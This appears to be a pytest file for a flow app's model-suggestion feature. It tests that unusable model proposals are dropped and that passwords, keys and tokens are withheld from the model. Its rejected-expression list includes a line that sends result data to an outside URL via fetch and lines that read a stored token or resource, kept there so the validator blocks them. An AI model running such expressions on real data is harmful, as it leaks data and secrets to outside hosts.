"""Proposals by a model: the real client against a server in this process, good and bad; nothing unchecked gets through."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

from flowapp.assistant import Proposals, Scope, Target, propose, scope_of
from flowapp.assistant.model import question, usable
from tests.unit.models.test_client import client_of, completion
from tests.unit.net.http_server import Answer, Request
from tests.unit.notebook.flows import document, loop, script

RESULTS = {
    "a": {"rows": [{"id": 1, "mail": "x@y.z"}], "api_key": "sk-123", "owner": {"password": "hunter2", "name": "Ada"}},
    "b": 5,
}
INPUTS = {"limit": 10, "token": "$var:u/me/token", "note": "n" * 500}
TARGETS = [
    Target("rows", {"type": "array"}),
    Target("ids", {"type": "array"}),
    Target("limit", {"type": "integer", "default": "secret default"}),
]


def scope() -> Scope:
    return scope_of(document(script("a"), script("b"), script("c"), sample=INPUTS), "cell_c", RESULTS)


def said(*proposals: tuple[str, str | None]) -> Answer:
    """A model's answer."""
    return completion(json.dumps({"proposals": [{"field": f, "expr": e, "why": "fits"} for f, e in proposals]}))


async def asked(answer: Any, **more: Any) -> Proposals:
    async with client_of(answer, **more) as (client, _):
        return await propose(client, "Report", TARGETS, scope())


def shown(found: Proposals) -> dict[str, tuple[str, str]]:
    return {proposal.field: (proposal.expr, proposal.source) for proposal in found.proposals}


async def test_good_proposals_are_taken_and_the_matcher_fills_the_rest() -> None:
    found = await asked(said(("ids", "results.a.rows.map(r => r.id)"), ("rows", None)))
    assert shown(found) == {
        "rows": ("results.a.rows", "matcher"),
        "ids": ("results.a.rows.map(r => r.id)", "model"),
        "limit": ("flow_input.limit", "matcher"),
    }
    assert found.notice is None


async def test_what_reads_nothing_real_is_left_out_and_said() -> None:
    found = await asked(said(("ids", "results.zzz.ids"), ("rows", "results.a.nope"), ("limit", "flow_input.max")))
    assert shown(found) == {"rows": ("results.a.rows", "matcher"), "limit": ("flow_input.limit", "matcher")}
    assert found.notice == "3 suggestions of the model were left out: they read something that is not there."


async def test_fields_that_were_not_asked_for_are_ignored() -> None:
    found = await asked(said(("other", "results.b"), ("rows", "results.a.rows"), ("rows", "results.b")))
    assert shown(found)["rows"] == ("results.a.rows", "model")
    assert "other" not in shown(found)


async def slow(request: Request) -> Answer:
    await asyncio.sleep(30)
    return said()


@pytest.mark.parametrize(
    ("answer", "words"),
    [
        (completion("I would connect rows to …"), "not JSON"),
        (completion('{"proposals": [{"field": "rows"}]}'), "agreed form"),
        (completion(None, refusal="No."), "declined"),
        (Answer({"error": {"message": "broken"}}, 500, {"retry-after-ms": "1"}), "status 500"),
        (slow, "did not answer within"),
    ],
    ids=["malformed", "incomplete", "refusing", "500", "slow"],
)
async def test_when_the_model_fails_the_matcher_stands_in_and_says_so(answer: Any, words: str) -> None:
    found = await asked(answer, timeout_s=0.3 if answer is slow else 5.0)
    assert shown(found)["rows"] == ("results.a.rows", "matcher")
    assert found.notice is not None
    assert words in found.notice
    assert found.notice.endswith("These suggestions come from comparing names and types instead.")


async def test_without_a_model_or_fields_nothing_is_asked() -> None:
    assert (await propose(None, "Report", TARGETS, scope())).notice is None
    async with client_of(said()) as (client, server):
        assert await propose(client, "Report", [], scope()) == Proposals()
        assert server.requests == []


def test_no_secret_is_sent() -> None:
    sent = question("Report", TARGETS, scope())
    for secret in ("sk-123", "hunter2", "u/me/token", "secret default"):
        assert secret not in sent
    assert "n" * 61 not in sent
    sources = {source["expr"]: source for source in json.loads(sent)["sources"]}
    assert sources["results.a.api_key"]["sample"] == "(hidden)"
    assert sources["results.a.owner.name"]["sample"] == "Ada"
    assert sources["results.a.rows"] == {
        "expr": "results.a.rows",
        "type": "array",
        "sample": [{"id": 1, "mail": "x@y.z"}],
    }


def test_what_the_schema_of_an_input_calls_a_secret_is_none_of_the_models_business_at_any_depth() -> None:
    person = {"type": "object", "properties": {"pin": {"type": "string", "password": True}, "name": {"type": "string"}}}
    people = {"type": "array", "items": person}
    sample: dict[str, Any] = {"one": {"pin": "4711-pin", "name": "Ada"}, "people": [{"pin": "4712-pin", "name": "Bob"}]}
    schema = {"type": "object", "properties": {"one": person, "people": people}}
    made = document(loop("each", "flow_input.people", [script("a")]), script("b"), sample=sample, schema=schema)
    inside = question("A", TARGETS, scope_of(made, "cell_a", {}, item=sample["people"][0]))
    sent = inside + question("B", TARGETS, scope_of(made, "cell_b", {}))
    assert "Ada" in sent and "Bob" in sent
    assert "4711" not in sent and "4712" not in sent
    kinds = {each["expr"]: each["type"] for each in json.loads(sent[: len(inside)])["sources"]}
    assert kinds["flow_input.iter.value.pin"] == "string"


PIN = {"type": "string", "password": True}


@pytest.mark.parametrize(
    "about",
    [
        {"anyOf": [{"type": "string"}, PIN]},
        {"oneOf": [{"type": "object", "properties": {"zz": PIN}}]},
        {"type": "object", "additionalProperties": PIN},
        {"type": "object", "properties": {"zz": {"$ref": "#/$defs/pin"}}},
        {"type": "array", "prefixItems": [PIN]},
    ],
    ids=lambda about: next(iter(set(about) - {"type"})),
)
def test_a_secret_in_a_union_or_under_a_free_key_is_not_sent(about: dict[str, Any]) -> None:
    value: Any = {"zz": "4711-pin"}
    value = "4711-pin" if "anyOf" in about else ["4711-pin"] if about.get("type") == "array" else value
    schema = {"type": "object", "properties": {"x": about, "name": {"type": "string"}}, "$defs": {"pin": PIN}}
    made = document(script("b"), sample={"x": value, "name": "Ada"}, schema=schema)
    sent = question("B", TARGETS, scope_of(made, "cell_b", {}))
    assert "Ada" in sent
    assert "4711" not in sent


@pytest.mark.parametrize(
    ("outer", "inner"),
    [
        ("flow_input.accounts", "flow_input.iter.value.codes"),
        ("flow_input.accounts.slice(0, 3)", "flow_input.iter.value.codes"),
        ("flow_input.groups", "flow_input.iter.value[0].codes"),
    ],
)
def test_a_secret_in_the_item_of_a_loop_within_a_loop_is_not_sent(outer: str, inner: str) -> None:
    code = {"type": "object", "properties": {"zz": PIN, "city": {"type": "string"}}}
    account = {"type": "object", "properties": {"codes": {"type": "array", "items": code}}}
    accounts = {"type": "array", "items": account}
    schema = {"type": "object", "properties": {"accounts": accounts, "groups": {"type": "array", "items": accounts}}}
    made = document(loop("out", outer, [loop("in", inner, [script("a")])]), schema=schema)
    sent = question("A", TARGETS, scope_of(made, "cell_a", {}, item={"zz": "4711-pin", "city": "Rome"}))
    assert "4711" not in sent
    assert ("Rome" in sent) == (
        "slice" not in outer
    )  # of what a computed list holds, nothing is known: it is not shown


def test_items_of_results_are_shown_in_loops_within_loops() -> None:
    schema = {"type": "object", "properties": {"key": PIN}}
    made = document(loop("out", "results.r", [loop("in", "flow_input.iter.value", [script("a")])]), schema=schema)
    assert "Rome" in question("A", TARGETS, scope_of(made, "cell_a", {}, item={"city": "Rome"}))


@pytest.mark.parametrize(
    "expr",
    [
        "results.a.rows",
        "results.a.rows[0].id",
        "results.a.rows.length + flow_input.limit",
        "`${results.a.owner.name}`",
        "({ rows: results.a.rows })",
        "results.a.rows.filter(r => r.id > flow_input.limit).map(r => r.mail)",
    ],
)
def test_expressions_over_what_is_there_are_usable(expr: str) -> None:
    assert usable(expr, scope())


@pytest.mark.parametrize(
    "expr",
    [
        "",
        "42",
        "results.a.rows[0].nope",
        "results.z",
        "results",
        "results[flow_input.note]",
        "flow_input.missing",
        "flow_input.limit.deeper",
        "previous_result",
        "results.a.rows +",
        "fetch('http://example.com?' + results.b)",
        "variable('u/me/token') + results.b",
        "resource('u/me/db') && results.b",
        "const x = results.b; return x",
        "results.b + ' '.repeat(1)" + " " * 600,
    ],
)
def test_other_expressions_are_not(expr: str) -> None:
    assert not usable(expr, scope())


def test_the_item_of_a_loop_is_checked_too() -> None:
    made = document(script("a"), loop("l", "results.a.rows", [script("m")]))
    within = scope_of(made, "cell_m", RESULTS, item={"id": 1})
    assert usable("flow_input.iter.value.id", within)
    assert usable("flow_input.iter.index", within)
    assert not usable("flow_input.iter.value.nope", within)
